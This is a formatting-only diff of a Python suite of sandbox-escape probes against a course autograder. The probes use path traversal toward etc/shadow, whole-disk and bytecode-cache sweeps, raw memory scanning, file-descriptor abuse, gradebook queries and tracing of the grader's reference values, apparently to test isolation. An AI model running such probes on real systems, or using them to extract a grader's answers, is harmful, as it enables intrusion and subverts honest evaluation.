@@ -10,11 +10,16 @@ def whole_disk():
         folders[:] = [
             name
             for name in folders
-            if os.path.join(folder, name) not in ("/usr", "/lib", "/lib64", "/bin", "/sbin", sys.prefix, sys.base_prefix)
+            if os.path.join(folder, name)
+            not in ("/usr", "/lib", "/lib64", "/bin", "/sbin", sys.prefix, sys.base_prefix)
         ]
         for name in names:
             path = os.path.join(folder, name)
-            if not path.startswith("/dev/") and os.path.isfile(path) and os.path.getsize(path) < 10_000_000:
+            if (
+                not path.startswith("/dev/")
+                and os.path.isfile(path)
+                and os.path.getsize(path) < 10_000_000
+            ):
                 tried(lambda: loot(open(path, errors="replace").read()))
 
 
@@ -31,15 +36,28 @@ def known_paths():
         "submitted/a-honest/04-convolution/convolution.ipynb",
         "course.toml",
     ):
-        tried(lambda: loot(open(f"{course}/{path}", errors="replace").read()), lambda: broke(os.stat(f"{course}/{path}")))
-    tried(lambda: loot(sqlite3.connect(f"{course}/gradebook.db").execute("select * from student").fetchall()))
+        tried(
+            lambda: loot(open(f"{course}/{path}", errors="replace").read()),
+            lambda: broke(os.stat(f"{course}/{path}")),
+        )
+    tried(
+        lambda: loot(
+            sqlite3.connect(f"{course}/gradebook.db").execute("select * from student").fetchall()
+        )
+    )
     tried(lambda: broke(os.listdir(course)))
 
 
 @attack()
 def upwards():
     """Climbs out of its working directory with dots, also in odd spellings."""
-    for path in ("../" * 20, "/proc/self/root/", "/proc/1/cwd/", "./" + "../" * 20, "/home/student/../../../"):
+    for path in (
+        "../" * 20,
+        "/proc/self/root/",
+        "/proc/1/cwd/",
+        "./" + "../" * 20,
+        "/home/student/../../../",
+    ):
         for name in ("etc/shadow", "root/.bashrc", KNOWN["course"].lstrip("/") + "/course.toml"):
             tried(lambda: broke(open(path + name).read(10)))
 
@@ -79,7 +97,9 @@ def garbage_collector():
     for thing in gc.get_objects():
         if isinstance(thing, (dict, list, tuple, set)):
             for text in gc.get_referents(thing):
-                if isinstance(text, (str, bytes)) and b"CANARY-" in (text if isinstance(text, bytes) else text.encode(errors="replace")):
+                if isinstance(text, (str, bytes)) and b"CANARY-" in (
+                    text if isinstance(text, bytes) else text.encode(errors="replace")
+                ):
                     tried(lambda: loot(repr(text)) if "found in set" not in str(text) else None)
     for name in sys.modules:
         if name.split(".")[0] in ("autograder", "nbgrader"):
@@ -90,7 +110,13 @@ def garbage_collector():
 def memory_scan():
     """Copies its whole memory around known objects through a pipe, and searches it; write(2) tells bad addresses from good."""
     reading, writing = os.pipe()
-    for centre in {id(object()) >> 28, id(sys) >> 28, id(torch) >> 28, ctypes.addressof(ctypes.c_char()) >> 28, id(os.environ) >> 28}:
+    for centre in {
+        id(object()) >> 28,
+        id(sys) >> 28,
+        id(torch) >> 28,
+        ctypes.addressof(ctypes.c_char()) >> 28,
+        id(os.environ) >> 28,
+    }:
         for address in range(max(0, (centre << 28) - (1 << 28)), (centre + 2) << 28, 65_536):
             if libc.write(writing, ctypes.c_void_p(address), ctypes.c_size_t(65_536)) > 0:
                 data = os.read(reading, 65_536)
@@ -114,7 +140,17 @@ def open_descriptors():
     for fd in range(3, 256):
         tried(lambda: os.set_blocking(fd, False))
         tried(lambda: loot(os.pread(fd, 1_000_000, 0).decode(errors="replace")))
-        tried(lambda: loot(open(os.open("../" * 20 + KNOWN["course"].lstrip("/") + "/course.toml", os.O_RDONLY, dir_fd=fd)).read()))
+        tried(
+            lambda: loot(
+                open(
+                    os.open(
+                        "../" * 20 + KNOWN["course"].lstrip("/") + "/course.toml",
+                        os.O_RDONLY,
+                        dir_fd=fd,
+                    )
+                ).read()
+            )
+        )
         tried(lambda: [broke(name) for name in os.listdir(fd)])
 
 
@@ -138,7 +174,13 @@ def the_graders_package():
     """Imports the grader and its checks, or finds their sources in the environment."""
     import glob, importlib
 
-    for name in ("autograder", "autograder.checks.convolution", "tests.answers", "beside", "beside.bridge"):
+    for name in (
+        "autograder",
+        "autograder.checks.convolution",
+        "tests.answers",
+        "beside",
+        "beside.bridge",
+    ):
         tried(lambda: broke(importlib.import_module(name).__name__))
     for folder in {*sys.path, sys.prefix, sys.base_prefix, os.path.dirname(sys.prefix)}:
         for path in (
@@ -185,7 +227,17 @@ def caches_of_bytecode():
     """Looks for compiled sources and caches that hold a solved exercise."""
     import glob, tempfile
 
-    for folder in (".", "/tmp", tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/data", "/var", "/root", "/home"):
+    for folder in (
+        ".",
+        "/tmp",
+        tempfile.gettempdir(),
+        os.path.expanduser("~"),
+        "/dev/shm",
+        "/data",
+        "/var",
+        "/root",
+        "/home",
+    ):
         for path in glob.glob(f"{folder}/**", recursive=True):
             if os.path.isfile(path):
                 tried(lambda: loot(open(path, "rb").read(5_000_000).decode(errors="replace")))
@@ -222,7 +274,10 @@ def requests():
     def conv2d_manual(image, kernel, stride=1, padding=0):
         loot(seen)
         for request in seen:
-            if set(request) - {"number", "code", "ask"} or set(request.get("ask", ())) - {"probes", "questions"}:
+            if set(request) - {"number", "code", "ask"} or set(request.get("ask", ())) - {
+                "probes",
+                "questions",
+            }:
                 broke(list(request))
             for text in (KNOWN["course"], KNOWN["tmp"], KNOWN["hostname"]):
                 if text in json.dumps(request.get("ask")):
@@ -242,7 +297,11 @@ def bytes_of_the_channel():
     threading.Thread(target=ahead, daemon=True).start()
 
     def conv2d_manual(image, kernel, stride=1, padding=0):
-        loot(SESSION.channel._unpacker._bytes.decode(errors="replace") + str(vars(SESSION)) + str(vars(SESSION.channel)))
+        loot(
+            SESSION.channel._unpacker._bytes.decode(errors="replace")
+            + str(vars(SESSION))
+            + str(vars(SESSION.channel))
+        )
         return image
 
 
@@ -259,7 +318,9 @@ def modules_beside():
             if space.get("__name__") != "__main__" and id(space) not in seen:
                 seen.add(id(space))
                 spaces += [
-                    vars(value) for value in space.values() if isinstance(value, types.ModuleType) and value.__name__ not in sys.modules
+                    vars(value)
+                    for value in space.values()
+                    if isinstance(value, types.ModuleType) and value.__name__ not in sys.modules
                 ]
                 if re.search("autograder|check|grading|classroom", space.get("__name__", "")):
                     broke(space["__name__"])
@@ -268,7 +329,15 @@ def modules_beside():
             *(str(value) for space in spaces for name, value in space.items() if name == "SOURCES"),
         ):
             loot(text)
-            if any(word in text for word in ("compare_with" + "_torch", "import autograder", "autograder.checks", "BY_" + "LOOP")):
+            if any(
+                word in text
+                for word in (
+                    "compare_with" + "_torch",
+                    "import autograder",
+                    "autograder.checks",
+                    "BY_" + "LOOP",
+                )
+            ):
                 broke("a source")
         return image
 
@@ -278,7 +347,9 @@ def traced():
     """Has Python show it every call of the code that asks, and looks at what it is called with."""
 
     def look(frame, event, arg):
-        if event == "call" and frame.f_code.co_filename.startswith(("<bridge", "<shell", "<channel", "<wire", "<probe")):
+        if event == "call" and frame.f_code.co_filename.startswith(
+            ("<bridge", "<shell", "<channel", "<wire", "<probe")
+        ):
             loot(str(frame.f_locals)[:10_000])
             for name in frame.f_locals:
                 if name in ("expected", "reference", "judges", "verdict", "tolerance", "points"):
@@ -292,7 +363,13 @@ def traced():
 @attack()
 def inherited_descriptors():
     """Looks for descriptors that it inherited besides its own input, output and channel: of namespaces, files, folders."""
-    kinds = {stat.S_IFREG: "file", stat.S_IFDIR: "folder", stat.S_IFSOCK: "socket", stat.S_IFIFO: "pipe", 0: "nameless"}
+    kinds = {
+        stat.S_IFREG: "file",
+        stat.S_IFDIR: "folder",
+        stat.S_IFSOCK: "socket",
+        stat.S_IFIFO: "pipe",
+        0: "nameless",
+    }
     for fd in range(3, 256):
         try:
             held = os.fstat(fd)
